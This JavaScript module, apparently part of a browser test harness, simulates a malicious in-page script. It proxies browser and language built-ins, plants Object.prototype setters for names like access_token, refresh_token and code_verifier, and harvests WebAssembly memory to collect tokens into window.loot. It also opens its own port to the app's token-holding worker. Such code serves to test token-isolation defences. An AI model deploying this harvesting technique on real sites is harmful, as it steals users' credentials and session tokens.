// An attacker's script in the page, which wants a token.
import { installStringsOf } from './strings.js';

/**
 * Runs in pages: replaces everything that a library could use there by a recording version. `window.loot` has what passed through, as
 * strings; `window.learnt` what it needs for its own attacks.
 */
export function infect() {
  if (window.loot) return;
  const { apply, construct, defineProperty, getOwnPropertyDescriptor, ownKeys } = Reflect;
  const loot = new Set();
  const learnt = { sharedWorkers: [], workers: [], memories: [], Real: { SharedWorker, Worker, MessageChannel } };
  const { then } = Promise.prototype;
  const { add } = Set.prototype;
  let isBusy = false;
  /** Records a value, and the result of a promise. Calls that this makes itself are ignored. */
  const note = (value) => {
    if (isBusy) return;
    isBusy = true;
    try {
      if (value instanceof Promise) apply(then, value, [note, note]);
      const texts = window.stringsOf(value, { most: 200 });
      for (let index = 0; index < texts.length; index += 1) apply(add, loot, [texts[index]]);
    } finally {
      isBusy = false;
    }
  };
  Object.assign(window, { loot, learnt, note });

  const replace = (object, name, make) => {
    const property = getOwnPropertyDescriptor(object, name);
    if (!property?.configurable) return;
    if (property.value) defineProperty(object, name, { ...property, value: make(property.value) });
    else defineProperty(object, name, { ...property, get: property.get && make(property.get), set: property.set && make(property.set) });
  };
  /** A function that works as before, and records. */
  const spied = (work) => (typeof work === 'function' ? new Proxy(work, {
    apply(target, self, given) {
      note([self, given]);
      const result = apply(target, self, given);
      note(result);
      return result;
    },
    construct(target, given, asked) {
      note(given);
      const result = construct(target, given, asked);
      note(result);
      return result;
    },
  }) : work);
  const spyOn = (object, names = ownKeys(object)) => {
    for (const name of names) if (name !== 'constructor') replace(object, name, spied);
  };

  // What the vault's location is made of: its URL and its name.
  const keeps = (Class, list) => new Proxy(Class, {
    construct(target, given, asked) {
      note(given);
      const made = construct(target, given, asked);
      list.push({ given: [String(given[0]), { ...given[1] }], made });
      return made;
    },
  });
  window.SharedWorker = keeps(window.SharedWorker, learnt.sharedWorkers);
  window.Worker = keeps(window.Worker, learnt.workers);
  for (const name of ['postMessage', 'onmessage']) for (const Class of [Worker, MessagePort, BroadcastChannel]) replace(Class.prototype, name, spied);
  replace(MessageEvent.prototype, 'data', spied);
  replace(EventTarget.prototype, 'addEventListener', (listen) => function addEventListener(type, listener, ...rest) {
    const heard = typeof listener === 'function' ? function hear(event) {
      note(event);
      return apply(listener, this, [event]);
    } : listener;
    return apply(listen, this, [type, heard, ...rest]);
  });
  spyOn(window, ['fetch', 'Request', 'Response', 'Headers', 'MessageChannel', 'BroadcastChannel', 'structuredClone', 'atob', 'btoa', 'postMessage',
    'reportError', 'queueMicrotask', 'URL']);
  for (const Class of [Request, Response, Headers, TextDecoder, TextEncoder, SubtleCrypto, Crypto, LockManager, IDBFactory, IDBObjectStore, IDBRequest,
    Storage, ReadableStreamDefaultReader, ReadableStreamDefaultController, Blob, URLSearchParams, AbortController, CustomEvent]) spyOn(Class.prototype);
  if (window.trustedTypes) spyOn(TrustedTypePolicyFactory.prototype);
  spyOn(History.prototype, ['pushState', 'replaceState']);

  // What the language itself offers.
  spyOn(JSON, ['parse', 'stringify']);
  spyOn(Array.prototype, ['push', 'join', 'concat', 'map', 'slice', 'splice', 'shift', 'includes', 'sort', 'filter', 'values', Symbol.iterator]);
  spyOn(String.prototype, ['split', 'replace', 'concat', 'startsWith', 'slice', 'charCodeAt', 'codePointAt']);
  spyOn(Map.prototype, ['get', 'set', 'delete']);
  spyOn(Object, ['assign', 'entries', 'fromEntries', 'keys', 'defineProperty']);
  spyOn(Reflect, ['get', 'set', 'construct']);
  spyOn(RegExp.prototype, ['test', 'exec']);
  replace(Promise.prototype, 'then', (work) => function thenAndTell(fulfilled, rejected) {
    const heard = typeof fulfilled === 'function' ? (value) => {
      note(value);
      return fulfilled(value);
    } : fulfilled;
    return apply(work, this, [heard, rejected]);
  });
  for (const name of ['access_token', 'refresh_token', 'id_token', 'accessToken', 'refreshToken', 'idToken', 'token', 'authorization', 'bearer',
    'code_verifier', 'verifier', 'expose', 'chunk', 'secret', '__wbg_ptr', 'wbg']) {
    defineProperty(Object.prototype, name, {
      configurable: true,
      get: () => undefined,
      set(value) {
        note(value);
        defineProperty(this, name, { value, configurable: true, enumerable: true, writable: true });
      },
    });
  }

  // The memory of WebAssembly, as far as it is in this page.
  const remember = (source) => {
    const { exports } = source.instance ?? source;
    for (const member of Object.values(exports ?? {})) if (member instanceof WebAssembly.Memory) learnt.memories.push(member);
    return source;
  };
  for (const name of ['instantiate', 'instantiateStreaming']) {
    replace(WebAssembly, name, (work) => (...given) => apply(then, apply(work, WebAssembly, given), [remember]));
  }
  WebAssembly.Instance = new Proxy(WebAssembly.Instance, { construct: (target, given) => remember(construct(target, given)) });
}

/** Infects every page of a context from now on, before anything else runs there. */
export function infectAll(context) {
  return context.addInitScript({ content: `(${installStringsOf})(); (${infect})();` });
}

/** Everything that the script has got hold of in this page. */
export function lootOf(page) {
  return page.evaluate(() => {
    for (const memory of window.learnt.memories) window.note(memory);
    return [...window.loot];
  });
}

/**
 * Runs in infected pages: adds `openPort`, which opens the script's own port to the vault of the app, found by what was learnt. `say`
 * sends a message, and returns the vault's replies.
 */
export function installPort() {
  const { Real: { SharedWorker, MessageChannel } } = window.learnt;
  const dial = ({ rename } = {}) => {
    const [shared] = window.learnt.sharedWorkers;
    if (shared) {
      const [url, options] = shared.given;
      return new SharedWorker(url, { ...options, name: rename?.(options.name) ?? options.name }).port;
    }
    const { port1, port2 } = new MessageChannel();
    const [own] = window.learnt.workers;
    if (rename) new window.learnt.Real.Worker(own.given[0], { ...own.given[1], name: rename(own.given[1].name) }).postMessage(0, [port2]);
    else own.made.postMessage(0, [port2]);
    return port1;
  };

  /** Takes a lock that is held for as long as the page is open, as the app's own tabs do. */
  const takeLock = (name) => new Promise((taken) => {
    navigator.locks.request(name, () => {
      taken(name);
      return new Promise(() => {});
    });
  });

  window.openPort = async ({ hello, rename } = {}) => {
    if (hello === undefined) hello = { event: 'hello' };
    const port = dial({ rename });
    const heard = [];
    const waiting = new Set();
    port.onmessage = ({ data }) => {
      window.note(data);
      heard.push(data);
      for (const check of [...waiting]) check();
    };
    /** Waits for a message of this kind, the first after this many. */
    const next = (matches, since = 0) => new Promise((resolve) => {
      const check = () => {
        const found = heard.slice(since).find(matches);
        if (!found) return;
        waiting.delete(check);
        resolve(found);
      };
      waiting.add(check);
      check();
    });
    let lastId = 4_000_000;
    const welcome = hello && (port.postMessage(hello), await next(({ event }) => event === 'welcome' || event === 'failed'));
    if (welcome?.tabLock) {
      await takeLock(welcome.tabLock);
      port.postMessage({ event: 'locked' });
    }
    return {
      port,
      heard,
      next,
      welcome,
      /** `until` is what to wait for: the answer to this id, an event, or else that the vault has received it. */
      async say(message, { transfer = [], until } = {}) {
        const since = heard.length;
        port.postMessage(message, transfer);
        lastId += 1;
        // There is no such call: the vault says so once it has received everything before.
        port.postMessage({ call: 'nothing', id: lastId });
        await next(({ id }) => id === lastId, since);
        if (until !== undefined) await next(({ id, event }) => id === until || event === until, since);
        return heard.slice(since).filter(({ id }) => id !== lastId);
      },
    };
  };
}
